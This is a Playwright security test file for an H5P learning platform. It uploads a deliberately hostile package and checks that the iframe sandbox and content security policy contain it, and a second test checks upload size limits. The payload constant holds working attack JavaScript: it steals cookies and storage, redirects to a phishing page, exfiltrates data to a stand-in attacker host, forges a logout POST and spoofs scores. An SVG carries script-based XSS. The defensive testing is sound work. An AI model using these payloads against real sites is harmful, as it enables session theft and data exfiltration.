import http from 'node:http';
import { test, expect } from './support/fixtures.ts';
import { packageEntries, zip } from '../support/h5p-packages.ts';
import { inspectH5pPackage, storeH5pPackage } from '../../src/lib/modules/h5p-packages.ts';
import { sharedLibraryExists } from '../../src/lib/modules/activities.ts';

/**
 * An uploaded H5P package brings its own JavaScript, which runs as the activity. This one tries,
 * inside a module page where a learner is signed in, every way out of its frame; each must fail.
 * The package's library code writes what it managed into its own document (#probe).
 */
const HOSTILE = `
var H5P = H5P || {};
H5P.QuizImporte = function () { H5P.EventDispatcher.call(this); };
H5P.QuizImporte.prototype = Object.create(H5P.EventDispatcher.prototype);
H5P.QuizImporte.prototype.attach = function ($container) {
  var root = $container.get ? $container.get(0) : $container;
  var out = { violations: [] };
  document.addEventListener('securitypolicyviolation', function (e) { out.violations.push(e.effectiveDirective + ' ' + e.blockedURI); });
  function attempt(name, run) {
    try { out[name] = 'done: ' + String(run()).slice(0, 60); } catch (e) { out[name] = 'blocked: ' + e.name; }
  }
  attempt('parentCookie', function () { return parent.document.cookie; });
  attempt('parentPage', function () { return parent.document.body.innerHTML.length; });
  attempt('parentFetch', function () { return parent.fetch('/deconnexion', { method: 'POST' }); });
  attempt('ownCookie', function () { return document.cookie; });
  attempt('storage', function () { return window.localStorage.getItem('esper-secret'); });
  attempt('topLocation', function () { top.location.href = 'https://attaquant.invalid/hameconnage'; return 'assigned'; });
  attempt('popup', function () { return window.open('https://attaquant.invalid/fenetre'); });
  attempt('script', function () { var s = document.createElement('script'); s.src = 'https://attaquant.invalid/charge.js'; document.head.appendChild(s); return 'inserted'; });
  attempt('image', function () { new Image().src = 'https://attaquant.invalid/pixel.gif?vole=1'; return 'set'; });
  attempt('frame', function () { var f = document.createElement('iframe'); f.src = 'https://attaquant.invalid/cadre'; document.body.appendChild(f); return 'inserted'; });
  attempt('beacon', function () { return navigator.sendBeacon('https://attaquant.invalid/balise', 'vole'); });
  attempt('form', function () { var f = document.createElement('form'); f.method = 'post'; f.action = '/deconnexion'; document.body.appendChild(f); f.submit(); return 'submitted'; });
  // A score claimed for another activity: the page records for its own frame's activity only.
  parent.postMessage({ type: 'esper-xapi', statement: { verb: { id: 'http://adlnet.gov/expapi/verbs/answered' }, object: { id: 'http://parcours.test/activites/autre-activite' }, result: { score: { raw: 6, max: 6, scaled: 1 }, success: true, completion: true } } }, '*');
  fetch('/mon-compte/donnees', { credentials: 'include' })
    .then(function (r) { return r.text().then(function (t) { out.read = 'read: ' + t.slice(0, 30); }); }, function (e) { out.read = 'blocked: ' + e.name; })
    .then(function () { return fetch('https://attaquant.invalid/collecte', { method: 'POST', body: String(out.read) }).then(function () { out.exfiltrate = 'sent'; }, function (e) { out.exfiltrate = 'blocked: ' + e.name; }); })
    .then(function () { return fetch('/deconnexion', { method: 'POST', credentials: 'include' }).then(function (r) { out.logout = 'status ' + r.status; }, function (e) { out.logout = 'blocked: ' + e.name; }); })
    .then(function () { return new Promise(function (resolve) { setTimeout(resolve, 500); }); })
    .then(function () { var p = document.createElement('pre'); p.id = 'probe'; p.textContent = JSON.stringify(out); root.appendChild(p); });
};
`;

const EVIL_SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>';

test('an uploaded package’s code cannot leave its frame: no cookie, no page, no navigation, no popup, nothing sent elsewhere', async ({ page, context, person, signIn, db, baseURL }) => {
  test.setTimeout(60_000);
  const suffix = Math.random().toString(36).slice(2, 7);
  const trainer = await person({ givenName: 'Hugo', familyName: `Blanc${suffix}`, roles: ['trainer'] });
  const learner = await person({ givenName: 'Inès', familyName: `Bac${suffix}`, roles: ['trainee'] });
  // Uploaded as /formation/activites does it (its form is tested in h5p-upload.spec.ts).
  const id = `hostile-${suffix}`;
  const inspection = await inspectH5pPackage(await zip([...packageEntries({ script: HOSTILE }), { path: 'content/images/evil.svg', content: EVIL_SVG }]), sharedLibraryExists);
  if (!inspection.ok) throw new Error(inspection.reason);
  await storeH5pPackage(db, { id, uploadedBy: trainer.id, inspection });

  // Everything the browser asks of another origin, popups and dialogs.
  const elsewhere: string[] = [];
  const blocked: string[] = [];
  const reachedNetwork: string[] = [];
  const posts: string[] = [];
  const popups: string[] = [];
  const dialogs: string[] = [];
  context.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(baseURL!) && !/^(data|blob|about):/.test(url)) elsewhere.push(url);
    if (request.method() === 'POST') posts.push(new URL(url).pathname);
  });
  context.on('requestfailed', (request) => {
    if (/ERR_BLOCKED_BY_CSP|csp/i.test(request.failure()?.errorText ?? '')) blocked.push(request.url());
  });
  // A request the policy let through would reach this handler (and go no further).
  await context.route(/attaquant\.invalid/, (route) => {
    reachedNetwork.push(route.request().url());
    return route.abort();
  });
  context.on('page', (popup) => popups.push(popup.url()));
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });

  await signIn(learner);
  await page.goto('/mon-compte');
  await page.evaluate(() => localStorage.setItem('esper-secret', 'gardé par la page'));
  // A module names its activities in its source; here the module's own quiz is swapped for the
  // uploaded package, served by the platform with its own headers, inside the module's real frame.
  await page.route(/\/h5p\/lecteur\/retablissement-quiz$/, (route) => route.continue({ url: `${baseURL}/h5p/lecteur/${id}` }));
  const moduleUrl = `${baseURL}/modules/retablissement/verifier`;
  await page.goto(moduleUrl);
  const frame = page.locator('iframe.activity__frame');
  await expect(frame).toHaveAttribute('sandbox', 'allow-scripts');
  await frame.scrollIntoViewIfNeeded();
  const probe = JSON.parse((await page.frameLocator('iframe.activity__frame').locator('#probe').textContent({ timeout: 20_000 }))!) as Record<string, string> & { violations: string[] };

  // The parent page, its cookie and its storage are out of reach; the frame's own are empty.
  expect(probe.parentCookie).toBe('blocked: SecurityError');
  expect(probe.parentPage).toBe('blocked: SecurityError');
  expect(probe.parentFetch).toBe('blocked: SecurityError');
  expect(probe.ownCookie).toBe('blocked: SecurityError');
  expect(probe.storage).toBe('done: null');
  // No navigation of the page, no popup, no form sent.
  expect(probe.popup).toBe('done: null');
  expect(page.url()).toBe(moduleUrl);
  expect(popups).toEqual([]);
  expect(posts.filter((p) => p === '/deconnexion').length).toBeLessThanOrEqual(1);
  // The learner's data cannot be read, and nothing leaves for another origin: the policy blocks
  // scripts, images, frames, beacons and requests to any other site before they are sent.
  expect(probe.read).toMatch(/^blocked/);
  expect(probe.exfiltrate).toMatch(/^blocked/);
  expect(probe.violations).toEqual(
    expect.arrayContaining([
      'script-src-elem https://attaquant.invalid/charge.js',
      'img-src https://attaquant.invalid/pixel.gif?vole=1',
      // A frame's address is reported up to its origin only.
      'frame-src https://attaquant.invalid',
      'connect-src https://attaquant.invalid/balise',
      'connect-src https://attaquant.invalid/collecte',
    ]),
  );
  // Chromium announces the blocked requests, then fails them before they are sent.
  expect(reachedNetwork).toEqual([]);
  expect(elsewhere.filter((url) => !blocked.includes(url))).toEqual([]);
  expect(dialogs).toEqual([]);
  // A POST to log out from the frame carries no session (opaque origin) and is refused as cross-site.
  expect(probe.logout).not.toMatch(/^status 2|^status 3/);
  expect((await page.goto('/mon-compte'))?.url()).toBe(`${baseURL}/mon-compte`);
  expect(await db.selectFrom('auth_session').select('id').where('person_id', '=', learner.id).execute()).toHaveLength(1);

  // A score it claims is recorded for the activity of its frame (the trust it is given), never for another.
  const results = await db.selectFrom('activity_result').select(['module_id', 'activity_id']).where('person_id', '=', learner.id).execute();
  for (const r of results) expect(r).toEqual({ module_id: 'retablissement', activity_id: 'retablissement-quiz' });

  // A file of the package opened directly (an SVG with a script) is never a page of the site.
  const svg = await page.request.get(`/h5p/contenus/${id}/content/images/evil.svg`);
  expect(svg.headers()['content-type']).toBe('image/svg+xml');
  expect(svg.headers()['x-content-type-options']).toBe('nosniff');
  expect(svg.headers()['content-security-policy']).toMatch(/^sandbox;/);
  await page.goto(`/h5p/contenus/${id}/content/images/evil.svg`);
  await page.waitForTimeout(300);
  expect(dialogs).toEqual([]);
  expect(reachedNetwork).toEqual([]);
});

/** A multipart body sent with chunked encoding (no Content-Length), as a script could send it. */
function postChunked(url: string, cookie: string, field: string, filename: string, bytes: number): Promise<{ status: number; body: string }> {
  const boundary = `----esper${Math.random().toString(16).slice(2)}`;
  return new Promise((resolve, reject) => {
    const request = http.request(url, { method: 'POST', headers: { cookie, origin: new URL(url).origin, 'content-type': `multipart/form-data; boundary=${boundary}`, 'transfer-encoding': 'chunked' } }, (response) => {
      const chunks: Buffer[] = [];
      response.on('data', (chunk: Buffer) => chunks.push(chunk));
      response.on('end', () => resolve({ status: response.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8') }));
    });
    // The server may answer and close before the whole body is sent.
    request.on('error', (error) => (request.writableEnded ? undefined : reject(error)));
    request.write(`--${boundary}\r\nContent-Disposition: form-data; name="${field}"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n`);
    const mebibyte = Buffer.alloc(1024 * 1024);
    let sent = 0;
    const pump = () => {
      while (sent < bytes) {
        sent += mebibyte.length;
        if (!request.write(mebibyte)) return void request.once('drain', pump);
      }
      request.end(`\r\n--${boundary}--\r\n`);
    };
    pump();
  });
}

test('an upload over its limit is refused before it is read, with the limit in French, and nothing is kept', async ({ page, person, signIn, db, baseURL }) => {
  test.setTimeout(60_000);
  const suffix = Math.random().toString(36).slice(2, 7);
  const coordinator = await person({ givenName: 'Julien', familyName: `Lourd${suffix}`, roles: ['coordinator', 'trainer'] });
  await signIn(coordinator);
  const settings = await db.selectFrom('organisation_settings').selectAll().executeTakeFirstOrThrow();
  const file = (name: string, megabytes: number, mimeType = 'application/octet-stream') => ({ name, mimeType, buffer: Buffer.alloc(Math.round(megabytes * 1024 * 1024)) });
  const refusals: [string, Record<string, string | { name: string; mimeType: string; buffer: Buffer }>, string][] = [
    // Just over the package limit, then over the server's own body limit (60 MB, astro.config.mjs).
    ['/formation/activites', { paquet: file('gros.h5p', 51.5) }, 'Le fichier dépasse 50 Mo.'],
    ['/formation/activites', { paquet: file('enorme.h5p', 61) }, 'Le fichier dépasse 50 Mo.'],
    ['/coordination/organisation', { name: 'Intrus', address: 'Ailleurs', representativeName: 'Intrus', representativeTitle: 'Intrus', logo: file('logo.png', 2.5, 'image/png') }, 'Les fichiers envoyés sont trop lourds : 1 Mo au plus par image.'],
    ['/verifier', { document: file('attestation.pdf', 6, 'application/pdf') }, 'Ce fichier est trop lourd : une attestation fait moins de 5 Mo.'],
  ];
  for (const [path, multipart, message] of refusals) {
    const response = await page.request.post(path, { multipart, headers: { origin: baseURL! } });
    expect(response.status(), path).toBe(413);
    expect(await response.text(), path).toContain(message);
  }
  // A tablet signature is JSON of 400 KB at most.
  const signature = await page.request.post(`/api/demi-journees/${crypto.randomUUID()}/signatures`, {
    headers: { origin: baseURL!, 'content-type': 'application/json' },
    data: JSON.stringify({ key: crypto.randomUUID(), personId: crypto.randomUUID(), signedAt: new Date().toISOString(), png: 'A'.repeat(500 * 1024) }),
  });
  expect(signature.status()).toBe(413);
  expect(await signature.json()).toEqual({ ok: false, message: 'La requête est trop volumineuse.' });
  // Without a declared length, the server stops reading at its body limit: still a French 4xx, never a 500.
  const cookie = (await page.context().cookies()).map((c) => `${c.name}=${c.value}`).join('; ');
  const chunked = await postChunked(`${baseURL}/formation/activites`, cookie, 'paquet', 'sans-longueur.h5p', 61 * 1024 * 1024);
  expect(chunked.status).toBeGreaterThanOrEqual(400);
  expect(chunked.status).toBeLessThan(500);
  expect(chunked.body).toContain('<html lang="fr"');
  expect(chunked.body).toMatch(/role="alert"/);

  expect(await db.selectFrom('h5p_package').select('id').where('uploaded_by', '=', coordinator.id).execute()).toEqual([]);
  expect(await db.selectFrom('organisation_settings').selectAll().executeTakeFirstOrThrow()).toEqual(settings);
});
